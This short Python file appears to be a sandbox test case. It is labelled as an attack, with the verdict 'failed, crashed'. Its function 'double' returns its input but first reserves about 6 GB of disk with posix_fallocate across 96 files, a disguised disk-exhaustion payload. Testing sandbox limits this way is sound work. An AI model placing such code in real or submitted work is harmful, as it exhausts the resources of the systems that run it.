# attack: take 6 GB of the disk by calls that write nothing
# exercise: double
# verdict: failed, crashed
import os


def double(x):
    for n in range(96):
        file = os.open(f"big{n}", os.O_CREAT | os.O_RDWR)
        os.posix_fallocate(file, 0, 64 << 20)
        os.close(file)
    return x
